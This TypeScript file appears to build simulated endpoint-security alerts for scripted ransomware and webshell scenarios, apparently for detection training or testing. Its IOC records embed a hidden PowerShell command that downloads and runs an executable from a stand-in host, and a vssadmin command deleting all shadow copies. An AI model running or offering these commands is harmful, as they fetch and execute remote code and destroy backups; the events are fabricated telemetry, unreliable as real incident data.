import { hashes, laptopOf, servers } from '../scenario/cast.ts';
import type { StoryStep } from '../scenario/stories.ts';
import { type CloudIoc, cloudIocDetails } from './cloud-iocs.ts';
import { computerOf, type Endpoint, endpointOf } from './endpoints.ts';
import { buildEvent, type EventParts, toDate } from './event-record.ts';
import { cleanFiles, type FileIdentity, identityOf, parentOf } from './files.ts';
import type { InsertedEvent } from './inserted-events.ts';
import { tacticsOf, techniquesOf } from './tactics.ts';

const MINUTE_MS = 60_000;

/** What a story's step looks like in Secure Endpoint. */
export function toStoryEvents(step: StoryStep, startMs: number): InsertedEvent[] {
  const make = makers[`${step.story}/${step.step}`];
  if (!make) throw new Error(`Secure Endpoint has no rendering of ${step.story}/${step.step}`);
  return make(Math.floor((startMs + step.at * MINUTE_MS) / 1000));
}

const makers: Readonly<Record<string, (seconds: number) => InsertedEvent[]>> = {
  'invoice-to-ransomware/outlook-starts-powershell': (seconds) => [
    event(seconds, 412_000_000, maja(), {
      type: 'cloudIoc',
      severity: 'High',
      details: cloudIocDetails(outlookStartsPowershell, 'maja.lindqvist', 0, 'objects'),
    }),
  ],
  'invoice-to-ransomware/lure-detected': (seconds) => {
    const detectionId = idAt(seconds, 2);
    const first = event(seconds, 279_000_000, maja(), {
      type: 'threatDetected',
      severity: 'Medium',
      detection: 'W32.Emotet.23xk.1201',
      detectionId,
      details: {
        file: {
          disposition: 'Malicious',
          file_name: 'Faktura_2231.exe',
          file_path: '\\\\?\\C:\\Users\\maja.lindqvist\\Downloads\\Faktura_2231.exe',
          identity: lure,
          parent: parentOf(cleanFiles.powershell, 417),
        },
        tactics: tacticsOf(['TA0002'], 'strings'),
        techniques: techniquesOf(['T1204.002'], 'strings'),
      },
    });
    const failed = event(seconds + 2, 18_000_000, maja(), {
      type: 'quarantineFailure',
      severity: 'Medium',
      detection: 'W32.Emotet.23xk.1201',
      detectionId,
      details: {
        file: {
          disposition: 'Malicious',
          file_name: 'Faktura_2231.exe',
          file_path: 'C:\\Users\\maja.lindqvist\\Downloads\\Faktura_2231.exe',
          identity: lure,
        },
        error: { error_code: 3221225539, description: 'The file is in use by another process' },
      },
    });
    return [
      { ...first, id: detectionId },
      { ...failed, id: idAt(seconds + 2, 1) },
    ];
  },
  'invoice-to-ransomware/multiple-infected-files': (seconds) => [
    event(seconds, 655_000_000, fs02(), {
      type: 'multipleInfectedFiles',
      severity: 'High',
      detection: 'W32.Ransom.Generic',
      details: {
        start_timestamp: seconds - 41,
        start_date: toDate(seconds - 41),
        file: {
          disposition: 'Malicious',
          file_name: 'cdnsync.dll',
          file_path: 'D:\\Shares\\Dispatch\\cdnsync.dll',
          identity: { sha256: hashes.beaconDll },
          parent: parentOf(cleanFiles.rundll32, 402),
        },
        tactics: tacticsOf(['TA0040'], 'strings'),
        techniques: techniquesOf(['T1486'], 'strings'),
      },
    }),
  ],
  'invoice-to-ransomware/shadow-copies-deleted': (seconds) => [
    event(seconds, 101_000_000, fs02(), {
      type: 'cloudIoc',
      severity: 'Critical',
      details: cloudIocDetails(shadowCopiesDeleted, 'svc-backup', 1, 'objects'),
    }),
  ],
  'old-wound/retrospective-detection': (seconds) => [
    event(seconds, 930_000_000, endpointOf(servers.web01), {
      type: 'retrospectiveDetection',
      severity: 'High',
      detection: 'ASP.Webshell.China-Chopper',
      details: {
        file: {
          disposition: 'Malicious',
          file_name: 'upd.aspx',
          file_path: '/C:/inetpub/wwwroot/portal/upd.aspx',
          identity: { sha256: hashes.webShell },
          parent: parentOf(cleanFiles.w3wp, 220),
        },
        tactics: tacticsOf(['TA0003'], 'strings'),
        techniques: techniquesOf(['T1505.003'], 'strings'),
      },
    }),
  ],
};

const lure: FileIdentity = { ...identityOf({ name: 'Faktura_2231.exe', folder: '' }), sha256: hashes.invoiceLure };

const outlookStartsPowershell: CloudIoc = {
  name: 'W32.OutlookPowershell.ioc',
  description:
    'Outlook started PowerShell with an encoded command. Mail programs have no reason to; lures in mail do this.',
  severity: 'High',
  tactics: ['TA0002'],
  techniques: ['T1059.001'],
  file: cleanFiles.powershell,
  parent: cleanFiles.outlook,
  commandLine:
    "powershell.exe -nop -w hidden -c \"$u='http://cdn-sync.example/f/2231';\r\n(New-Object Net.WebClient).DownloadFile($u,$env:USERPROFILE+'\\Downloads\\Faktura_2231.exe');\r\nStart-Process $env:USERPROFILE\\Downloads\\Faktura_2231.exe\"",
};

const shadowCopiesDeleted: CloudIoc = {
  name: 'W32.ShadowCopyDeletion.ioc',
  description: 'All shadow copies of the volume were deleted. Ransomware does so before it encrypts.',
  severity: 'Critical',
  tactics: ['TA0040'],
  techniques: ['T1490'],
  file: cleanFiles.vssadmin,
  parent: cleanFiles.cmd,
  commandLine: 'vssadmin.exe delete shadows /all /quiet',
};

function maja(): Endpoint {
  return endpointOf(laptopOf('maja.lindqvist'));
}

function fs02(): Endpoint {
  return endpointOf(servers.fs02);
}

function event(
  seconds: number,
  nanos: number,
  endpoint: Endpoint,
  parts: Pick<EventParts, 'type' | 'severity' | 'detection' | 'detectionId' | 'details'>,
): InsertedEvent {
  const user = endpoint.host.owner?.upn ?? STORY_USERS[endpoint.host.name];
  const computer = computerOf(endpoint, user === undefined ? {} : { user });
  const id = idAt(seconds, 1);
  const detectionId = parts.detectionId ?? (parts.type === 'retrospectiveDetection' ? id : undefined);
  const record = buildEvent({ ...parts, seconds, nanos, endpoint, key: 0, computer, detectionId });
  // Without a value of its own a field would take the insertion's default.
  const absent = ['detection', 'detection_id'].filter((name) => record[name] === undefined);
  return { ...record, id, _omit: absent };
}

const STORY_USERS: Readonly<Record<string, string>> = { 'NVK-FS-02': 'svc-backup@norrvik.example' };

function idAt(seconds: number, counter: number): string {
  return ((BigInt(seconds) << 32n) + BigInt(counter)).toString();
}
